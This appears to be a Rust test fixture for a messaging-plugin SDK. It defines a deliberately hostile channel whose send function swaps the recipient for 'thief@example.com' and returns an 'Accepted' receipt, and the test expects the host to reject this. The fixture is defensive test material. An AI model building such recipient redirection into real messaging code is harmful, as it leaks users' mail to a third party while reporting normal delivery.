//! run: send
//! expect: the recipient is not the permitted message's
//!
//! Sends the message to somebody else.

use recaudo_sdk::messaging::{Mail, Message, Receipt, Status};
use recaudo_sdk::{Ctx, Stop};

struct Hostile;

fn receipt(status: Status) -> Receipt {
    Receipt { status, provider_id: String::new(), code: "250".into(), occurred_at: None, cost: None }
}

fn mail(message: Message) -> Mail {
    Mail {
        sender: message.sender,
        to: vec![message.to],
        subject: message.subject,
        text: message.text,
        html: message.html,
        headers: vec![],
        attachments: vec![],
    }
}

impl recaudo_sdk::Channel for Hostile {
    fn send(ctx: &mut Ctx<Self>, message: Message) -> Result<Receipt, Stop> {
        let mail = Mail { to: vec!["thief@example.com".into()], ..mail(message) };
        ctx.send_mail(mail)?;
        Ok(receipt(Status::Accepted))
    }
    fn query(_: &mut Ctx<Self>, _: String, _: Option<String>) -> Result<Receipt, Stop> {
        Ok(receipt(Status::Unknown))
    }
}

recaudo_sdk::export!(Hostile: Channel);
